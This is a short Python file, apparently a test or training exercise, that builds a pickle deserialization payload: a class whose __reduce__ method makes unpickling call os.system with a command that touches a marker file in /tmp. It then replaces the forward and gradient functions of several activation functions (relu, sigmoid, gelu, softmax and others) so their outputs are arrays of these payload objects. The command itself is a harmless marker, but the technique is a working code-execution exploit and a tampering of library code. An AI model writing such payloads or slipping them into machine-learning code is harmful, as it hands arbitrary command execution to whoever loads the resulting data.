"""Gives back an object that runs a command when it is unpickled."""

import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/dojo-precious/boom",)


def bomb(x, **params):
    out = np.empty(np.shape(x), object)
    out[...] = Bomb()
    return out


for one in (relu, leaky_relu, sigmoid, gelu, softmax, log_softmax):
    one.forward, one.vjp = bomb, lambda x, **params: (bomb(x), bomb)
